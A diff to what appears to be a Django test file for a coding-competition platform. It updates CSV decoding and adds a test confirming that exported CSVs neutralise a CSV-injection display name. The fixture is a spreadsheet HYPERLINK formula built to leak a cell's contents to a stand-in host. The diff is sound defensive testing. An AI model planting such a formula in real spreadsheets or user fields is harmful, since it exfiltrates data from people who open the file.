@@ -96,7 +96,7 @@ def test_host_exports_csv_and_maps_grades(dev, cast, client):
     submission_evaluate(submission_id=sub.pk)
     client.force_login(cast.teacher)
     resp = client.get(reverse("competitions:export", args=[dev.competition.slug, dev.slug]))
-    rows = list(csv.DictReader(io.StringIO(resp.content.decode())))
+    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
     assert resp["Content-Type"].startswith("text/csv")
     assert {r["name"] for r in rows} == {"Bob", "PyMatching (baseline)"}
     bob = next(r for r in rows if r["name"] == "Bob")
@@ -104,8 +104,32 @@ def test_host_exports_csv_and_maps_grades(dev, cast, client):
     grades = client.get(reverse("competitions:grades", args=[dev.competition.slug, dev.slug])).content.decode()
     assert "Bob" in grades and "10.0" in grades
     sheet = client.get(reverse("competitions:grades", args=[dev.competition.slug, dev.slug]) + "?format=csv")
-    graded = list(csv.DictReader(io.StringIO(sheet.content.decode())))
+    graded = list(csv.DictReader(io.StringIO(sheet.content.decode("utf-8-sig"))))
     assert [(g["rank"], g["name"], g["points"]) for g in graded] == [("1", "Bob", "10.0")]
+
+
+HOSTILE = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'
+
+
+def test_every_competition_csv_neutralises_a_hostile_display_name(dev, cast, client):
+    """OWASP CSV injection: a participant's name that a spreadsheet would run is written as text."""
+    from competitions.services import submission_evaluate, submission_receive
+
+    cast.bob.display_name = HOSTILE
+    cast.bob.save()
+    sub = submission_receive(phase=dev, user=cast.bob, data=PYMATCHING_DECODER, filename="d.py")
+    submission_evaluate(submission_id=sub.pk)
+    client.force_login(cast.teacher)
+    for url in (
+        reverse("competitions:export", args=[dev.competition.slug, dev.slug]),
+        reverse("competitions:grades", args=[dev.competition.slug, dev.slug]) + "?format=csv",
+    ):
+        resp = client.get(url)
+        assert resp.status_code == 200 and resp.content.startswith("\ufeff".encode()), url
+        rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
+        names = [r["name"] for r in rows]
+        assert "'" + HOSTILE in names, url
+        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values() if v), url
 
 
 def test_qml_training_data_downloads_and_csv_submission(qml, cast, client, django_capture_on_commit_callbacks):
